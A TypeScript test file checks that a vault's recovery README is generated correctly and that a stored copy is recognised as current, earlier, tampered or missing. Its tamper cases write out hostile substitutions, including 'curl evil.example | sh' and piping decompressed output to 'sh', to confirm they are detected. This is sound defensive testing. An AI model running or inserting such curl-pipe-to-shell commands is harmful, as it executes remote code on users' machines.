import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { publicKeyPem } from "../../../../engine/crypto/keys.ts";
import { utf8 } from "../../../../engine/foundation/bytes.ts";
import { readmeName } from "../../../../engine/vault/format/layout.ts";
import { recoveryReadme, storedReadme } from "../../../../engine/vault/format/recovery-readme.ts";
import { memoryStore } from "../../../support/memory-store.ts";
import { cryptography, sampleVault } from "../../../support/sealed-vault.ts";
import { readmeGenesis as genesis, signers } from "./readme-genesis.ts";

/** What it makes on a real vault is shown by tests/integration/hand-recovery.test.ts. */
describe("README.txt", () => {
  const text = recoveryReadme({ vault: sampleVault, genesis });

  it("names the vault, its origin and its signing keys, also as PEM", () => {
    expect(text).toContain(`VAULT=${sampleVault}`);
    expect(text).toContain("https://dev.azure.com/fabrikam");
    for (const signer of signers) expect(text).toContain(`${signer}   may sign: `);
    for (const signer of signers) expect(text).toContain(publicKeyPem(signer));
  });

  it("is plain text that any editor shows", () => {
    expect(text).toMatch(/^[\n -~]*$/);
    expect(text.split("\n").filter((line) => !line.startsWith("    ") && line.length > 120)).toEqual([]);
    expect(text).not.toMatch(/undefined|\[object/);
  });

  it("speaks of an organisation where the vault is of one", () => {
    const { project, ...organisation } = genesis.genesis;

    const page = recoveryReadme({ vault: sampleVault, genesis: { ...genesis, genesis: organisation } });

    expect(page).toContain("organisation 0f3a7a1e");
    expect(page).not.toContain(`project ${project!.id}`);
  });
});

describe("a stored README.txt", () => {
  const ours = recoveryReadme({ vault: sampleVault, genesis });
  const stateOf = async (text: string | Uint8Array): Promise<string> => {
    const store = memoryStore();
    store.objects.set(readmeName(sampleVault), typeof text === "string" ? utf8(text) : text);
    return (await storedReadme({ store, cryptography }, { vault: sampleVault, genesis })).state;
  };

  it("is told from one that somebody has put in its place", async () => {
    expect(await stateOf(ours)).toBe("current");
    expect(await stateOf(ours.replace("gunzip > index.ndjson", "gunzip | tee index.ndjson | sh"))).toBe("other");
    expect(await stateOf(ours.replaceAll(signers[0]!, signers[1]!))).toBe("other");
    expect(await stateOf(new Uint8Array(1 << 20))).toBe("other");
  });

  it("may be of a version before this one", async () => {
    const earlier = readFileSync("tests/format/readme/1.0.0.txt", "utf8");

    expect(await stateOf(earlier)).toBe("earlier");
    expect(await stateOf(earlier.replace("age --decrypt", "curl evil.example | sh; age --decrypt"))).toBe("other");
  });

  it("may be missing", async () => {
    expect(await storedReadme({ store: memoryStore(), cryptography }, { vault: sampleVault, genesis })).toEqual({
      state: "missing",
      sha256: undefined,
    });
  });
});
